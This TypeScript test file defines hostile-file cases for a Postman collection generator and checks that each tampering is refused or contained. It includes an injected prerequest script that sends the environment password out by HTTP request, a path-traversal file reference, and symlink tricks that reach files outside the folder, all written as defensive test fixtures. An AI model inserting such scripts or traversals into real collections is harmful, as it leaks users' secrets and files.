import { readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { markCollection } from '../../../src/output/ownership.ts';
import { type Attack, contained, refused } from './attack.ts';

const collectionFile = 'hostile.postman_collection.json';
const environmentFile = 'hostile.dev.postman_environment.json';

type Tree = Record<string, unknown>;

function edit(folder: string, name: string, change: (content: Tree) => Tree): void {
  const path = join(folder, name);
  writeFileSync(path, `${JSON.stringify(change(JSON.parse(readFileSync(path, 'utf8'))), null, '\t')}\n`);
}

const theft = 'pm.sendRequest("http://127.0.0.1:9/" + pm.environment.get("password"), function () {});';
const withTheft = (content: Tree): Tree => ({
  ...content,
  event: [{ listen: 'prerequest', script: { type: 'text/javascript', exec: [theft] } }],
});
const list = 'endpoints.yaml';

/** Replaces the list by one that refers to a file outside its folder. */
const reachOut =
  (entry: object, more: object = {}) =>
  (folder: string, canary: string) => {
    symlinkSync(canary, join(folder, 'link'));
    const text = JSON.stringify({
      name: 'Hostile',
      environments: { dev: { base_url: 'http://127.0.0.1:9' } },
      ...more,
      endpoints: [{ name: 'Case', request: 'POST /case', ...entry }],
    });
    writeFileSync(join(folder, list), text.replaceAll('{canary}', canary));
  };

/** Files written or changed by an attacker. */
export const files: readonly Attack[] = [
  {
    name: 'a script added to the collection',
    why: 'a reviewer reads only the list',
    ...refused,
    codes: ['edited-by-hand'],
    prepare: (folder) => edit(folder, collectionFile, withTheft),
  },
  {
    name: 'a script added to the collection, with a matching hash',
    why: 'an attacker who knows postmint can compute the hash',
    ...refused,
    codes: ['stale-file'],
    prepare: (folder) => edit(folder, collectionFile, (content) => markCollection(withTheft(content), list)),
  },
  {
    name: 'a second collection in the same file',
    why: 'some readers use the first of two equal keys',
    ...refused,
    codes: ['edited-by-hand'],
    prepare: (folder) => {
      const path = join(folder, collectionFile);
      writeFileSync(path, readFileSync(path, 'utf8').replace('{', `{ "event": ${JSON.stringify(withTheft({}))},`));
    },
  },
  {
    name: 'a collection that is a symbolic link',
    why: 'its target can be replaced at any time',
    ...refused,
    codes: ['unsafe-output'],
    prepare: (folder) => {
      renameSync(join(folder, collectionFile), join(folder, 'other.json'));
      symlinkSync('other.json', join(folder, collectionFile));
    },
  },
  {
    name: 'an environment in which the secrets are no longer marked as secret',
    why: 'they would be shown',
    ...refused,
    codes: ['stale-file'],
    prepare: (folder) =>
      edit(folder, environmentFile, (content) => ({
        ...content,
        values: (content.values as Tree[]).map((variable) => ({ ...variable, type: 'default' })),
      })),
  },
  {
    name: 'an environment with an additional variable',
    why: 'acceptable: users may add variables, and no request uses this one',
    ...contained,
    prepare: (folder) =>
      edit(folder, environmentFile, (content) => ({
        ...content,
        values: [...(content.values as Tree[]), { key: 'more', value: '{{password}}', type: 'default', enabled: true }],
      })),
  },
  {
    name: 'a body that is a symbolic link',
    why: 'the file would be sent',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({ json: { $file: 'link' } }),
  },
  {
    name: 'a script from outside the folder',
    why: 'the script would run, and an error message would quote its first line',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({ after: { $file: '../../../../../..{canary}' } }),
  },
  {
    name: 'a schema that is a symbolic link',
    why: 'most parsers quote a file that is not JSON',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({ expect: { schema: { $file: 'link' } } }),
  },
  {
    name: 'a template that is a symbolic link',
    why: 'the message about an invalid template quotes its line',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({}, { auth: './link' }),
  },
  {
    name: 'a certificate file that is a symbolic link',
    why: 'the process that sends the requests would read it',
    ...refused,
    codes: ['file-outside', 'stale-file'],
    prepare: reachOut(
      { safe: true },
      { environments: { dev: { variables: { base_url: 'https://127.0.0.1:9' }, ca_file: 'link' } } },
    ),
  },
];
